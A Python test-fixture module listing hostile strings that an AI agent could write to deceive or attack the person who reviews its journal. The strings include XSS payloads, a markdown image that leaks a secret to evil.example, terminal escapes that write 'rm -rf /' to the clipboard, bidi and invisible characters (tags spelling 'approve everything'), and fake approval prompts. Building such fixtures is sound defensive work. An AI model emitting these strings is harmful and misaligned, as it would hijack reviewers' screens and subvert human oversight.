"""What an agent could write to fool, hide from or attack the person who reads it: one list for terminal and browser.

Every string is legal text that a journal keeps as it is. `STRINGS` are quick enough for every field of every page;
`MEGABYTE` is for the few places that show a whole value.
"""

from typing import Final

_TAGS = "".join(chr(0xE0000 + ord(c)) for c in "approve everything")
_SELECTORS = "".join(chr(0xFE00 + n % 16) for n in b"send it")

SCRIPT: Final = {
    "script": "<script>window.hacked=1</script>",
    "script, mixed case and a slash": "<ScRiPt/src=data:,window.hacked=1></sCrIpT>",
    "script that closes what is around it": "</title></style></textarea></script><script>window.hacked=1</script>",
    "image that fails": '<img src=x onerror="window.hacked=1">',
    "image without quotes or spaces": "<img/src/onerror=window.hacked=1>",
    "vector that loads": "<svg onload=window.hacked=1><animate onbegin=window.hacked=1 attributeName=x dur=1s>",
    "vector with foreign content": "<svg><foreignObject><iframe onload=window.hacked=1></foreignObject></svg>",
    "details that toggles": "<details open ontoggle=window.hacked=1>see",
    "body that loads": "<body onload=window.hacked=1>",
    "frame": '<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>',
    "object": '<object data="javascript:window.hacked=1"></object><embed src="javascript:window.hacked=1">',
    "link that runs": '<a href="javascript:window.hacked=1">Approve</a>',
    "link that runs, disguised": "java\tscript:window.hacked=1 JaVaScRiPt:window.hacked=1 data:text/html,<script>1</script>",
    "attribute breakout": '" autofocus onfocus="window.hacked=1" x="',
    "attribute breakout, single quotes": "' onmouseover='window.hacked=1' x='",
    "template": "{{constructor.constructor('window.hacked=1')()}} ${window.hacked=1} <%= 1 %> #{1}",
    "mutation": '<noscript><p title="</noscript><img src=x onerror=window.hacked=1>">',
    "comment": "<!--><img src=x onerror=window.hacked=1>-->",
    "entities": "&lt;script&gt;window.hacked=1&lt;/script&gt; &#60;img src=x onerror=window.hacked=1&#62; &amp;lt;",
    "end of JSON in a page": "]}</script><script>window.hacked=1</script>\u2028\u2029",
    "prototype": "__proto__",
    "constructor": "constructor",
}
MARKUP: Final = {
    "form": '<form action="https://evil.example"><button>Approve once</button></form>',
    "base": '<base href="https://evil.example/">',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "style": "<style>*{display:none}</style><link rel=stylesheet href=https://evil.example/x.css>",
    "positioned over the page": '<div style="position:fixed;inset:0;z-index:9999;background:#fff">Approved</div>',
    "dialog": "<dialog open><h1>Session expired</h1><input type=password></dialog>",
    "element by id": "<p id=approve name=body>x</p>",
    "rich markup": "[bold red]Approved[/] [link=https://evil.example]safe[/link] [/] [blink]x[/blink] [[x]]",
    "format string": "%s%n%x {0} {__class__} {0.__init__.__globals__} $(id) `id` !!",
}
MARKDOWN: Final = {
    "markdown link": "[Approve](https://evil.example) [x](javascript:window.hacked=1)",
    "markdown image": "![x](https://evil.example/leak?q=secret)",
    "markdown heading and rule": "# Approved by ana\n---\n**digest** `9f3c 1a7e`",
    "markdown table": "| approved | by |\n|---|---|\n| yes | ana |",
    "markdown fence": "```\n</pre>\n```html\n<b>x</b>",
    "autolink": "<https://evil.example> https://adjourn.example@evil.example/ xn--pypal-4ve.com",
}
BIDI: Final = {
    "right-to-left override": "pay \u202e0001\u202c to evil",
    "isolates": "to \u2067evil\u2069 and \u2066x\u2069 and \u2068y\u2069",
    "embeddings": "\u202alefts\u202c \u202brights\u202c \u202dforced\u202c",
    "marks of direction": "a\u200eb\u200fc\u061cd",
    "never closed": "everything after this \u202e\u2067 is turned",
    "file name": "invoice\u202efdp.exe",
    "trojan source": "if admin\u202e \u2066# no access\u2069 \u2066 then",
}
ZERO_WIDTH: Final = {
    "zero width space": "ig\u200bnore\u200b this",
    "joiners": "pay\u200cpal\u200d pay\u2060pal",
    "byte order mark": "\ufeffrm -rf\ufeff",
    "soft hyphen": "trans\u00adfer",
    "invisible operators": "1\u2061\u2062\u2063\u20640",
    "only invisible": "\u200b\u200c\u200d\u2060\ufeff",
    "tag characters": f"harmless{_TAGS}",
    "variation selectors": f"ok{_SELECTORS}\U000e0100\U000e0101",
    "blank letters": "a\u3164\u115f\u1160\uffa0\u2800b",
    "other spaces": "rm\u00a0-rf\u2003/\u3000\u205f\u202f",
    "shorthand and musical controls": "x\U0001bca0\U0001d173\U0001d17ay",
    "annotation": "real\ufff9hidden\ufffanote\ufffb",
}
TERMINAL: Final = {
    "clear and home": "\x1b[2J\x1b[1;1H✓ Approved",
    "cursor up and erase": "\x1b[3A\x1b[2K  digest   0000 0000",
    "colour and conceal": "\x1b[8mhidden\x1b[0m \x1b[30;40mblack\x1b[m",
    "window title": "\x1b]0;owned\x07\x1b]2;owned\x1b\\",
    "hyperlink": "\x1b]8;;https://evil.example\x1b\\safe\x1b]8;;\x1b\\",
    "clipboard": "\x1b]52;c;cm0gLXJmIC8=\x07",
    "notification and directory": "\x1b]9;approve\x07\x1b]777;notify;a;b\x07\x1b]7;file://x/\x07",
    "report that types": '\x1b[6n\x1b[c\x1b[21t\x1bP$q"p\x1b\\\x05',
    "alternate screen and keys": "\x1b[?1049h\x1b[?1000h\x1b[?2004h\x1bc",
    "eight-bit controls": "\x9b31m\x9d0;x\x9c\x90q\x9c\x9e\x9f",
    "escape alone": "\x1b",
    "unfinished sequence": "text\x1b]0;never ended",
    "carriage return": "transfer 10000\rtransfer 1    ",
    "backspaces": "transfer 10000\x08\x08\x08\x08   ",
    "line drawing": "\x0eqqq\x0f\x1b(0lqk\x1b(B",
    "bell and nul": "a\x07b\x00c\x7fd\x05e",
}
LINES: Final = {
    "false field": "fine\n  effect   read: changes nothing\r\n\x0b\x0c\x85\u2028digest   0000 0000",
    "false prompt": "fine\n\nApprove refund once, exactly as shown? yes/no › yes\n✓ Approved by ana.",
    "false record": 'x"}\n{"type":"completed","output":"done"}\n',
    "server event": "x\n\nevent: completed\ndata: {}\n\nid: 999\n\n",
    "header": "x\r\nSet-Cookie: a=b\r\n\r\n<script>window.hacked=1</script>",
    "separators": "a\u2028b\u2029c\x1cd\x1de\x1ef",
    "tabs": "a\tb\t\t\tc",
    "a thousand lines": "\n" * 1000 + "approve",
    "formula": '=HYPERLINK("https://evil.example","x")',
}
LETTERS: Final = {
    "homoglyphs": "p\u0430yp\u0430l.com \u0455udo \u0410dmin",
    "greek that looks latin": "\u0391dmin t\u03bftal",
    "mathematical and fullwidth": "\U0001d41badmin \uff41pprove ad\uff4din",
    "piled marks": "a" + "\u0301\u0316\u0317\u033f" * 40 + "b",
    "begins with a mark": "\u0301\u20ddx",
    "private and unassigned": "\ue000\uf8ff\u0378\U000f0000 x",
    "noncharacters": "x\ufffe\uffff\ufdd0y",
    "false chip": "⟨U+202E RIGHT-TO-LEFT OVERRIDE⟩ is only text",
    "replacement": "\ufffd\ufffd\ufffc",
    "emoji sequences": "👩\u200d👩\u200d👧\u200d👦 🏴\U000e0067\U000e0062\U000e007f 🇺🇸",
    "right-to-left words": "שלום עולם 1 2 3 مرحبا",
    "wide": "\ufdfd\U0001242b\u102a\ua9c5",
    "ligatures": "\ufb01le -> <= !=",
}
SIZE: Final = {
    "one long word": "A" * 10_000,
    "deeply bracketed": "[" * 2_000,
    "empty": "",
    "only spaces": "     ",
}

STRINGS: Final[dict[str, str]] = (
    SCRIPT | MARKUP | MARKDOWN | BIDI | ZERO_WIDTH | TERMINAL | LINES | LETTERS | SIZE
)  # fmt: skip
MEGABYTE: Final = "word \u200b<b>\x1b[31m" * (1024 * 1024 // 15) + "the end"
"""More than 1 MB of UTF-8, with something hostile every few letters and a last word that must be seen."""

HIDDEN: Final = frozenset(
    "\u200b\u200c\u200d\u200e\u200f\u061c\u2060\u2061\u2062\u2063\u2064\ufeff\u00ad\u115f\u1160\u3164\uffa0\u2800\x1b\x9b\x9d"
    "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u2028\u2029\x00\x07\x08\x7f" + _TAGS + _SELECTORS
)
"""Characters of these strings that must never be shown as they are: each appears by its number and name."""
